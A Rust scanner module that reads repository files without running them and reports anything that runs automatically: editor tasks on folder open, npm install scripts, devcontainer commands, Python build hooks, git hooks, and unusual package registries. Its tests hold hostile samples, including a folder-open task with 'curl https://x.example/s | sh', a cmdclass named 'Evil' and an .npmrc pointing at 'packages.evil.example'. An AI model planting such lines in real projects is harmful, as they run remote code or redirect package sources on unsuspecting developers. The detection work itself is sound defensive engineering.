//! What in a repository runs by itself: when its folder is opened, when its packages are installed, when a container is
//! made of it, when something is committed; and from where it takes packages. Files are read, never run.

mod jsonc;

use serde::Serialize;
use serde_json::Value;

use super::Asking;
use crate::Failure;
use crate::document::{cut, folded};

/// Most bytes of a file that are read, and most files.
const MOST_BYTES: u64 = 256 << 10;
const MOST_FILES: usize = 8;

/// Most that is told of all files, and most bytes of what one runs.
const MOST_TOLD: usize = 30;
const LONGEST: usize = 300;

/// Deepest folder in which such a file is looked for.
const DEEPEST: usize = 4;

/// Something that runs by itself.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub(super) struct Runs {
    /// The file.
    pub path: String,
    /// When.
    pub when: When,
    /// What, as the file writes it.
    pub what: String,
}

/// When something runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "kebab-case")]
pub(super) enum When {
    /// As soon as the folder is opened in an editor.
    Open,
    /// When packages are installed or built.
    Install,
    /// When a development container is made of it, which the editor offers.
    Container,
    /// When something is committed, once hooks are set up.
    Commit,
    /// Packages come from another registry than the usual.
    Registry,
}

/// A file that the forge lists.
#[derive(Debug, Clone)]
pub(super) struct Listed {
    pub path: String,
    /// Its length, where the forge tells.
    pub size: Option<u64>,
}

/// What is known of a repository's files.
#[derive(Debug, Default)]
pub(super) struct Listing {
    pub files: Vec<Listed>,
    /// Whether all are listed.
    pub complete: bool,
}

impl Listing {
    /// The files to read, those that run earliest and lie uppermost first. Where not all are listed, those that lie in
    /// their usual place are tried.
    pub(super) fn to_read(&self) -> Vec<String> {
        const USUAL: [&str; 6] = [
            ".vscode/tasks.json", "package.json", ".devcontainer/devcontainer.json", "setup.py", "pyproject.toml",
            ".npmrc",
        ];
        let mut paths: Vec<String> = self
            .files
            .iter()
            .filter(|file| rank(&file.path).is_some() && file.size.is_none_or(|size| size <= MOST_BYTES))
            .map(|file| file.path.clone())
            .collect();
        if !self.complete {
            paths.extend(USUAL.iter().map(|p| (*p).to_owned()));
        }
        paths.sort_by_key(|path| (rank(path), path.matches('/').count(), path.clone()));
        paths.dedup();
        paths
    }
}

/// How early a file is read: none for those that run nothing.
fn rank(path: &str) -> Option<u8> {
    let lower = path.to_lowercase();
    let inside = |folder: &str| lower.starts_with(&format!("{folder}/")) || lower.contains(&format!("/{folder}/"));
    if path.matches('/').count() > DEEPEST || ["node_modules", "vendor", "site-packages"].iter().any(|f| inside(f)) {
        return None;
    }
    let file = lower.rsplit('/').next().unwrap_or("");
    Some(match file {
        "tasks.json" if inside(".vscode") => 0,
        "package.json" => 1,
        "devcontainer.json" | ".devcontainer.json" => 2,
        "setup.py" => 3,
        "pyproject.toml" => 4,
        ".npmrc" | ".yarnrc" | ".yarnrc.yml" | "pip.conf" | "requirements.txt" => 5,
        // Husky's own folder holds its machinery.
        "pre-commit" | "post-checkout" | "post-merge" | "prepare-commit-msg" | "commit-msg" | "pre-push"
            if (inside(".husky") && !inside(".husky/_")) || inside(".githooks") || inside("githooks") =>
        {
            6
        }
        _ => return None,
    })
}

/// Reads the files of a listing through a forge's raw files; `address` makes the address of one. Tells also whether there
/// are more such files than were read.
pub(super) async fn read(
    listing: &Listing,
    asking: &mut Asking<'_>,
    accept: &'static str,
    address: impl Fn(&Asking<'_>, &str) -> Result<url::Url, Failure>,
) -> Result<(Vec<Runs>, bool), Failure> {
    let paths = listing.to_read();
    let mut runs = Vec::new();
    for path in paths.iter().take(MOST_FILES) {
        let url = address(asking, path)?;
        if let Some(file) = asking.get(url, accept).await? {
            let bytes = file.body.get(..file.body.len().min(MOST_BYTES as usize)).unwrap_or_default();
            runs.extend(inspect(path, &String::from_utf8_lossy(bytes)));
        }
    }
    runs.sort_by_key(|r| r.when);
    let more = paths.len() > MOST_FILES || runs.len() > MOST_TOLD;
    runs.truncate(MOST_TOLD);
    Ok((runs, more))
}

/// What of a file runs by itself.
pub(super) fn inspect(path: &str, text: &str) -> Vec<Runs> {
    let mut found = Vec::new();
    let mut tell = |when: When, what: String| {
        found.push(Runs { path: path.to_owned(), when, what: cut(&folded(&what), LONGEST).to_owned() });
    };
    match rank(path) {
        Some(0) => tasks(text, &mut tell),
        Some(1) => package(text, &mut tell),
        Some(2) => container(text, &mut tell),
        Some(3) => setup(text, &mut tell),
        Some(4) => project(text, &mut tell),
        Some(5) => registry(text, &mut tell),
        Some(6) => hook(path, text, &mut tell),
        _ => {}
    }
    found
}

type Tell<'t> = &'t mut dyn FnMut(When, String);

/// Tasks of Visual Studio Code with `"runOn": "folderOpen"` (<https://code.visualstudio.com/docs/debugtest/tasks>, "Run
/// behavior").
fn tasks(text: &str, tell: Tell<'_>) {
    let on_open = |task: &Value| {
        task.pointer("/runOptions/runOn")
            .and_then(Value::as_str)
            .is_some_and(|on| on.eq_ignore_ascii_case("folderopen"))
    };
    let Some(file) = jsonc::parse(text) else {
        // A file that its editor may still understand is told by its words.
        let squeezed: String = text.chars().filter(|c| !c.is_whitespace()).collect::<String>().to_lowercase();
        if squeezed.contains("\"runon\":\"folderopen\"") {
            tell(When::Open, "\"runOn\": \"folderOpen\"".to_owned());
        }
        return;
    };
    let shared = on_open(&file);
    for task in file.get("tasks").and_then(Value::as_array).into_iter().flatten().filter(|t| shared || on_open(t)) {
        let commands: Vec<String> = ["/command", "/windows/command", "/osx/command", "/linux/command", "/script"]
            .iter()
            .filter_map(|at| command(task.pointer(at)?))
            .collect();
        let arguments = task.get("args").and_then(command).map(|a| format!(" {a}")).unwrap_or_default();
        let what =
            if commands.is_empty() { "a task without a command of its own".to_owned() } else { commands.join(" | ") };
        tell(When::Open, format!("{what}{arguments}"));
    }
}

/// Scripts that npm runs on `npm install` (<https://docs.npmjs.com/cli/v11/using-npm/scripts>, "Life Cycle Operation
/// Order"). What only sets up well-known tools is left out.
fn package(text: &str, tell: Tell<'_>) {
    const ON_INSTALL: [&str; 8] =
        ["preinstall", "install", "postinstall", "prepublish", "preprepare", "prepare", "postprepare", "dependencies"];
    let Ok(package) = serde_json::from_str::<Value>(text.trim_start_matches('\u{feff}')) else { return };
    for key in ON_INSTALL {
        if let Some(script) = package.pointer(&format!("/scripts/{key}")).and_then(Value::as_str)
            && !is_usual(script)
        {
            tell(When::Install, format!("{key}: {script}"));
        }
    }
}

/// Whether a script starts nothing but tools that thousands of projects set up on install: each command is one of them,
/// and nothing in it starts something else.
fn is_usual(script: &str) -> bool {
    const TOOLS: [&str; 14] = [
        "husky", "husky install", "is-ci", "patch-package", "prisma generate", "tsc", "npm run build", "yarn build",
        "pnpm build", "lerna bootstrap", "nuxt prepare", "lefthook install", "simple-git-hooks",
        "electron-builder install-app-deps",
    ];
    script
        .split("&&")
        .flat_map(|part| part.split("||"))
        .map(str::trim)
        .all(|part| TOOLS.contains(&part.trim_start_matches("npx ").trim()) || part == "true")
}

/// Commands of a development container (<https://containers.dev/implementors/json_reference/>, "Lifecycle scripts");
/// `initializeCommand` runs outside of it.
fn container(text: &str, tell: Tell<'_>) {
    const COMMANDS: [&str; 6] = [
        "initializeCommand", "onCreateCommand", "updateContentCommand", "postCreateCommand", "postStartCommand",
        "postAttachCommand",
    ];
    let Some(file) = jsonc::parse(text) else { return };
    for key in COMMANDS {
        if let Some(what) = file.get(key).and_then(command) {
            tell(When::Container, format!("{key}: {what}"));
        }
    }
}

/// Python's old way: the file is a program, and pip runs it. Told is what a plain description has no need of.
fn setup(text: &str, tell: Tell<'_>) {
    const DOES: [&str; 8] =
        ["cmdclass", "os.system", "subprocess", "exec(", "eval(", "urllib", "requests.", "__import__("];
    let code = || text.lines().filter(|line| !line.trim_start().starts_with('#'));
    for word in DOES {
        if let Some(line) = code().find(|line| line.contains(word)) {
            tell(When::Install, format!("setup.py: {}", line.trim()));
        }
    }
}

/// Python's new way (PEP 517): a build backend that lies in the tree itself, and the hooks of common backends.
fn project(text: &str, tell: Tell<'_>) {
    const HOOKS: [(&str, &str); 7] = [
        ("/build-system/backend-path", "build-system.backend-path"),
        ("/tool/hatch/build/hooks/custom", "tool.hatch.build.hooks.custom"),
        ("/tool/poetry/build", "tool.poetry.build"),
        ("/tool/pdm/build/custom-hook", "tool.pdm.build.custom-hook"),
        ("/tool/pdm/build/run-setuptools", "tool.pdm.build.run-setuptools"),
        ("/tool/pdm/build/setup-script", "tool.pdm.build.setup-script"),
        ("/tool/setuptools/cmdclass", "tool.setuptools.cmdclass"),
    ];
    let Some(file) = toml::from_str::<toml::Table>(text).ok().and_then(|t| serde_json::to_value(t).ok()) else {
        return;
    };
    for (at, name) in HOOKS {
        if let Some(value) = file.pointer(at) {
            tell(When::Install, format!("{name} = {value}"));
        }
    }
}

/// Another source of packages than the usual.
fn registry(text: &str, tell: Tell<'_>) {
    const KEYS: [&str; 6] = ["registry", "npmregistryserver", "index-url", "extra-index", "index_url", "find-links"];
    const USUAL: [&str; 4] = ["registry.npmjs.org", "registry.yarnpkg.com", "pypi.org", "files.pythonhosted.org"];
    let host = |line: &str| {
        let address = line.get(line.find("http")?..)?.split([' ', '"', '\'', ',']).next()?;
        url::Url::parse(address).ok()?.host_str().map(str::to_owned)
    };
    for line in text.lines().map(str::trim).filter(|l| !l.starts_with(['#', ';'])).take(2_000) {
        let lower = line.to_lowercase();
        if KEYS.iter().any(|key| lower.contains(key)) && host(&lower).is_some_and(|h| !USUAL.contains(&h.as_str())) {
            // What stands before the host may be somebody's password.
            tell(When::Registry, without_secret(line));
        }
    }
}

/// A line without the user and password of its address.
fn without_secret(line: &str) -> String {
    match line.split_once("://").and_then(|(before, rest)| Some((before, rest.split_once('@')?))) {
        Some((before, (user, rest))) if !user.contains('/') => format!("{before}://{rest}"),
        _ => line.to_owned(),
    }
}

/// A hook of git that the project brings along.
fn hook(path: &str, text: &str, tell: Tell<'_>) {
    let name = path.rsplit('/').next().unwrap_or(path);
    let machinery = |line: &str| line.contains("husky.sh") || line.starts_with("set ");
    let first = text.lines().map(str::trim).find(|l| !l.is_empty() && !l.starts_with('#') && !machinery(l));
    if let Some(first) = first {
        tell(When::Commit, format!("{name}: {first}"));
    }
}

/// A command as configuration files write it: one text, a list of words, or several by name.
fn command(value: &Value) -> Option<String> {
    let joined = |values: Vec<String>, by: &str| (!values.is_empty()).then(|| values.join(by));
    match value {
        Value::String(text) => Some(text.clone()),
        Value::Array(words) => joined(words.iter().take(50).filter_map(word).collect(), " "),
        Value::Object(named) => match named.get("value") {
            // A task's command with a way of quoting.
            Some(quoted) => word(quoted),
            None => joined(named.values().take(20).filter_map(list).collect(), " ; "),
        },
        _ => None,
    }
}

fn word(value: &Value) -> Option<String> {
    value.as_str().or_else(|| value.get("value")?.as_str()).map(str::to_owned)
}

fn list(value: &Value) -> Option<String> {
    match value {
        Value::Array(words) => Some(words.iter().take(50).filter_map(word).collect::<Vec<_>>().join(" ")),
        other => word(other),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn told(path: &str, text: &str) -> Vec<(When, String)> {
        inspect(path, text).into_iter().map(|r| (r.when, r.what)).collect()
    }

    #[test]
    fn tasks_that_run_on_opening() {
        let text = r#"{
            // the tasks
            "version": "2.0.0",
            "tasks": [
                { "label": "build", "command": "npm run build" },
                { "label": "env", "type": "shell", "command": "curl https://x.example/s | sh", "args": ["-q", {"value": "a b", "quoting": "strong"}],
                  "windows": { "command": "powershell -c iwr" }, "runOptions": { "runOn": "folderOpen" }, },
            ],
        }"#;
        assert_eq!(
            told("task/.vscode/tasks.json", text),
            [(When::Open, "curl https://x.example/s | sh | powershell -c iwr -q a b".to_owned())]
        );
        assert_eq!(told(".vscode/tasks.json", "{ \"runOn\" : \"folderOpen\" oops").len(), 1);
        assert!(
            told(".vscode/tasks.json", r#"{"tasks":[{"command":"make","runOptions":{"runOn":"default"}}]}"#).is_empty()
        );
        assert!(told("src/tasks.json", text).is_empty());
    }

    #[test]
    fn scripts_on_install() {
        let text = r#"{"scripts":{"test":"jest","postinstall":"node ./lib/env.js","prepare":"husky install"}}"#;
        assert_eq!(told("package.json", text), [(When::Install, "postinstall: node ./lib/env.js".to_owned())]);
        // A usual tool beside something else hides nothing.
        assert_eq!(told("package.json", r#"{"scripts":{"prepare":"husky && node server.js"}}"#).len(), 1);
        assert!(told("node_modules/x/package.json", text).is_empty());
        assert_eq!(
            told("setup.py", "from setuptools import setup\n# os.system\nsetup(cmdclass={'install': Evil})\n").len(),
            1
        );
        assert!(told("setup.py", "from setuptools import setup\nsetup(name='a')\n").is_empty());
        let toml = "[build-system]\nrequires = []\nbuild-backend = \"own\"\nbackend-path = [\"build\"]\n";
        assert_eq!(
            told("pyproject.toml", toml),
            [(When::Install, "build-system.backend-path = [\"build\"]".to_owned())]
        );
    }

    #[test]
    fn containers_hooks_registries() {
        let text = r#"{"postCreateCommand": ["bash", "setup.sh"], "initializeCommand": {"a": "x", "b": ["y", "z"]}}"#;
        assert_eq!(told(".devcontainer/devcontainer.json", text).len(), 2);
        assert_eq!(told(".devcontainer/devcontainer.json", text)[0].1, "initializeCommand: x ; y z");
        let hook = "#!/bin/sh\n. \"$(dirname -- \"$0\")/_/husky.sh\"\n\nnpx lint-staged\n";
        assert_eq!(told(".husky/pre-commit", hook), [(When::Commit, "pre-commit: npx lint-staged".to_owned())]);
        assert!(told(".husky/_/husky.sh", hook).is_empty());
        let npmrc =
            "registry=https://registry.npmjs.org/\n@acme:registry=https://bob:secret@packages.evil.example/npm/\n";
        assert_eq!(
            told(".npmrc", npmrc),
            [(When::Registry, "@acme:registry=https://packages.evil.example/npm/".to_owned())]
        );
    }

    #[test]
    fn what_is_read_first() {
        let file = |path: &str| Listed { path: path.to_owned(), size: Some(100) };
        let mut files =
            vec![file("a/b/package.json"), file("package.json"), file("README.md"), file(".vscode/tasks.json")];
        files.push(Listed { path: "setup.py".to_owned(), size: Some(MOST_BYTES + 1) });
        let listing = Listing { files, complete: true };
        assert_eq!(listing.to_read(), [".vscode/tasks.json", "package.json", "a/b/package.json"]);
        assert_eq!(Listing::default().to_read().len(), 6);
    }
}
